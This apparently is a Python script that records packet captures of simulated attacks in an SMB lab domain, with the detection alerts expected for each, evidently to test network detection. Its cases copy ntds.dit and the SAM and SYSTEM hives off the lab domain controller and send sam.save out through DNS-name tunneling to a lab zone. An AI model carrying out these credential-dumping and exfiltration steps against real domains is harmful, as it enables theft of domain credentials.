#!/usr/bin/python3
"""Recordings of the SMB lab. LAB=... smb-record.py OUTDIR [CASE...] after smb-topology.sh, smb-provision.sh and smb-content-install.py."""
import smb_lab as L
from smb_lab import *
from smb_content import *
L.OUT = sys.argv.pop(1); POL = json.load(open(LAB + '/policies.json')); DC = IP['dc1']; W1 = IP['ws1']; W2 = IP['ws2']
R = lambda p: open(p, 'rb').read()
def full(c, host, user, path, share, dialect, auth, server='dc1', frm=None, v6=False, enc='no', notes='', account=None, xfile=None):
    """facts and expectation of one whole file read from the DC"""
    d = R(C('dc1', path)); f = path.split('/')[-1]; A = IP6 if v6 else IP
    c.fact(dialect, auth, 'CORP\\' + user, A[host], A['dc1'], '%s: %s' % (share, path), d, enc, notes)
    k = dict(origin=A['dc1'], recipient=A[host])
    if enc == 'no': k.update(file=xfile or f, bytes=len(d), sha256=sha(d))
    if account is not False: k['account'] = 'CORP\\' + user
    c.expect(**k)
dc = '//dc1.corp.example/'
KRB = 'tcp port 445 or port 88'

@case('ntds-shadow-copy', 'ntds.dit and the SYSTEM hive read from a shadow copy: the @GMT- moment travels in the TWrp create context, not in the name', ['smb', 'attack', 'ntds', 'shadow-copy', 'hive'])
def _(c):
    g = r'\@GMT-2026.11.20-06.00.00'
    with c.cap('ntds-shadow-copy.pcap'): smbc('ws1', dc + 'C$', 'da-carol', r'get %s\Windows\NTDS\ntds.dit ntds.dit; get %s\Windows\System32\config\SYSTEM system' % (g, g), check=True)
    s = '.snap/@GMT-2026.11.20-06.00.00/Windows/'
    full(c, 'ws1', 'da-carol', s + 'NTDS/ntds.dit', 'C$', '3.1.1', 'NTLMv2'); full(c, 'ws1', 'da-carol', s + 'System32/config/SYSTEM', 'C$', '3.1.1', 'NTLMv2')

@case('ntds-eight-letters', 'ESE database under an eight-letter .tmp name in ADMIN$\\Temp, SMB 2.1 (the naming of remote dump tools)', ['smb', 'attack', 'ntds', 'renamed', 'smb2.1'])
def _(c):
    with c.cap('ntds-eight-letters.pcap'): smbc('ws1', dc + 'ADMIN$', 'da-carol', r'get Temp\KxQzRtWb.tmp', dialect='SMB2_10', check=True)
    full(c, 'ws1', 'da-carol', 'Windows/Temp/KxQzRtWb.tmp', 'ADMIN$', '2.1', 'NTLMv2')

@case('smb-encrypted', 'SMB 3.1.1 session encrypted with AES-128-GCM: only the session setup with the account, and the volume (320 KB), can be seen', ['smb', 'attack', 'encrypted'])
def _(c):
    with c.cap('smb-encrypted.pcap'): smbc('ws1', dc + 'C$', 'da-carol', r'get Windows\Temp\ad-small.dit', enc='AES-128-GCM', check=True)
    full(c, 'ws1', 'da-carol', 'Windows/Temp/ad-small.dit', 'C$', '3.1.1', 'NTLMv2', enc='AES-128-GCM'); c.d['expect'][0]['severity'] = 'low'

@contextlib.contextmanager
def outside(*argv):
    p = subprocess.Popen(['ip', 'netns', 'exec', 'ls-out', *argv], stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True, cwd=L.TMP); time.sleep(2)
    try: yield p
    finally: p.terminate(); p.wait()

@case('hive-then-dns', 'sam.save is read from the DC by ws1 over SMB, then sent out by ws1 in DNS names (hex, counter) of cdn-sync.example through the DC\'s resolver; the decoded bytes are the file', ['smb', 'dns', 'attack', 'hive', 'lineage', 'mixed'])
def _(c):
    put(C('dc1', 'Windows/Temp/sam.save'), hive('SAM', 'dc1', 30)); d = R(C('dc1', 'Windows/Temp/sam.save'))
    with outside('/usr/bin/python3', HERE + '/smb-dns-answer.py', IP['out'], 'cdn-sync.example', L.TMP + '/names-hex.log'):
        with c.cap('hive-then-dns.pcap', at='ws1', filt='tcp port 445 or port 53'):
            smbc('ws1', dc + 'C$', 'da-carol', r'get Windows\Temp\sam.save', check=True); time.sleep(1)
            on('ws1', '/usr/bin/python3', HERE + '/smb-dns-send.py', 'sam.save', 'cdn-sync.example', DC, 'hex', timeout=300)
    full(c, 'ws1', 'da-carol', 'Windows/Temp/sam.save', 'C$', '3.1.1', 'NTLMv2')
    c.fact('DNS', '', '', W1, DC, 'names of cdn-sync.example, hex of sam.save', d, notes='via the resolver on the DC')
    c.d['expect'] += [dict(alert=2031, initiator=W1, zone='cdn-sync.example'), dict(alert=2031, initiator=W1, zone='cdn-sync.example', sha256=sha(d))]

@case('benign-gpo-logon', 'logon of alice: policies and the logon script from SYSVOL and NETLOGON (Kerberos)', ['smb', 'benign', 'policy', 'kerberos'])
def _(c):
    with c.cap('benign-gpo-logon.pcap', filt=KRB):
        for g in POL.values(): smbc('ws1', dc + 'sysvol', 'alice', 'get corp.example\\Policies\\%s\\GPT.INI g; get corp.example\\Policies\\%s\\User\\Registry.pol r' % (g, g), krb=True, check=True)
        smbc('ws1', dc + 'netlogon', 'alice', 'get logon.ps1 l; get drives.cmd d', krb=True, check=True)

if __name__ == '__main__': main(L.OUT)
